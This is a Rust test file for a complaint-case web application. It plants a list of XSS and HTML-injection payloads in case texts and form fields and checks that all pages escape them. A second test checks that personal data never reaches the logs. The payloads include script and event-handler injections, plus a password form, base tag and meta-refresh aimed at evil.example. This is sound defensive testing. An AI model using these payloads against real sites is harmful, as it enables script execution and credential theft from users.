//! Markup planted in every text and opened on every page; and marks that may reach no log.

use domain::account::Role;
use domain::case::Stage;

use super::{PLAIN, Texts, case_at, of};
use crate::harness::{BUREAU, Site, logged};

const PAYLOADS: [&str; 20] = [
    "<script>alert('xss')</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\" autofocus onfocus=\"alert(1)",
    "' onmouseover='alert(1)",
    "<a href=\"javascript:alert(1)\">点这里</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<form action=\"https://evil.example\"><input name=password>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<!--><script>alert(1)</script>-->",
    "{{ 7 * 7 }}<%= 7 * 7 %>${7*7}<b>",
    "&lt;script&gt;<b>&#x3c;script&#x3e;",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn markup_in_any_text_is_text_on_every_page_of_every_role() {
    let site = Site::open().await;
    let mut numbers = Vec::new();
    for (index, payload) in PAYLOADS.iter().enumerate() {
        let demand = format!("{payload}请尽快查处这件事");
        let texts = Texts { demand: &demand, place: payload, note: payload, answer: &demand, ..PLAIN };
        let stage = [Stage::Filed, Stage::Handling, Stage::UnitReview, Stage::CallBack, Stage::Archived][index % 5];
        numbers.push(case_at(&site, stage, &texts).await);
    }
    let mut opened = 0;
    for role in [Role::Operator, Role::Dispatcher, Role::Liaison, Role::Handler, Role::Head, Role::Reviewer, Role::Inspector] {
        let mut browser = site.sign_in(role).await;
        let mut paths: Vec<String> = numbers.iter().map(|number| of(number)).collect();
        let lists =
            ["filed", "accepted", "dispatched", "handling", "unit_review", "hotline_review", "call_back", "open", "ended", "breached"];
        paths.extend(lists.map(|list| format!("/desk/worklist/{list}")));
        paths.extend(
            ["/desk", "/desk/search?q=%E5%B0%BD%E5%BF%AB", "/desk/search?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"].map(str::to_owned),
        );
        paths.extend([format!("/desk/scorecard/{BUREAU}"), format!("/desk/scorecard/{BUREAU}/answered")]);
        for path in paths {
            let page = browser.get(&path).await;
            assert!(page.status < 500, "{role:?} {path}");
            opened += usize::from(page.status == 200 && page.has("请尽快查处这件事"));
            for payload in PAYLOADS {
                assert!(!page.body.contains(payload), "{role:?} at {path}: {payload}");
            }
            assert!(!page.body.contains("href=\"javascript:"), "{role:?} at {path}");
        }
    }
    assert!(opened > 60, "the texts were on the pages: {opened}");
    for number in &numbers {
        let mut citizen = site.browser();
        let form = citizen.get("/track").await.form("/track").set("number", number).set("code", &site.app.query_code(site.case(number)));
        let tracked = citizen.submit(form).await;
        assert_eq!(tracked.path, "/track/case");
        let pages = [tracked, citizen.get(&format!("/public/cases/{number}")).await, citizen.get("/public/cases").await];
        for (page, payload) in pages.iter().flat_map(|page| PAYLOADS.map(|payload| (page, payload))) {
            assert!(page.status == 200 && !page.body.contains(payload), "{}: {payload}", page.path);
        }
    }
    // What is typed wrongly comes back as text too.
    let mut citizen = site.browser();
    for payload in PAYLOADS {
        let form = citizen.get("/track").await.form("/track").set("number", payload).set("code", payload);
        assert!(!citizen.submit(form).await.body.contains(payload), "{payload}");
        let form = citizen.get("/desk/sign-in").await.form("/desk/sign-in").set("login", payload).set("password", payload);
        assert!(!citizen.submit(form).await.body.contains(payload), "{payload}");
        site.clock.advance(chrono::TimeDelta::minutes(2));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_personal_of_a_whole_walk_reaches_the_operating_log() {
    // given a case whose every text bears a mark that stands nowhere else
    let site = Site::open().await;
    let texts = Texts {
        demand: "戊辰巷的排水沟长期堵塞，请派人疏通。",
        place: "戊辰巷独门院",
        name: "司徒戊辰",
        phone: "13655554444",
        note: "戊辰便条：家里有人等候",
        answer: "戊辰答复：排水沟已疏通完毕，请查看。",
    };
    let number = case_at(&site, Stage::CallBack, &texts).await;
    let code = site.app.query_code(site.case(&number));
    // when everybody opens it, looks for it by telephone, and acts on it rightly and wrongly
    for role in Role::ALL {
        let mut browser = site.sign_in(role).await;
        browser.get(&of(&number)).await;
        browser.get("/desk/search?q=13655554444").await;
    }
    let mut operator = site.sign_in(Role::Operator).await;
    let form = operator.get("/desk/file").await.form("/desk/file").set("phone", texts.phone).set("name", texts.name);
    operator.submit(form.clone().button("do", "history")).await;
    operator.submit(form.set("words", "太短").button("do", "file")).await;
    let mut citizen = site.browser();
    let form = citizen.get("/track").await.form("/track");
    citizen.submit(form.clone().set("number", &number).set("code", "戊辰乱填")).await;
    let page = citizen.submit(form.set("number", &number).set("code", &code)).await;
    let page = citizen.submit(page.form("/track/rate").set("grade", "1").set("comment", "戊辰评语：沟还是堵的")).await;
    citizen.submit(page.form("/track/unsolved").set("reason", "戊辰理由：沟还是堵的，没有解决")).await;
    let form = citizen.get("/desk/sign-in").await.form("/desk/sign-in").set("login", "liaison").set("password", "戊辰密码不对呀");
    citizen.submit(form).await;
    let mut security = site.sign_in(Role::SecurityAdmin).await;
    let form = security.get("/admin/persons").await.form("/admin/persons").set("numbers", &number).set("act", "erase");
    security.submit(form.set("reason", "戊辰本人要求删除").button("do", "confirm")).await;
    site.settle().await;
    // then no line of the program bears one of them
    let lines = logged();
    for mark in ["戊辰", "13655554444", code.as_str(), "%E6%88%8A%E8%BE%B0"] {
        let line = lines.lines().find(|line| line.contains(mark));
        assert!(line.is_none(), "{mark} stands in the log: {line:?}");
    }
}
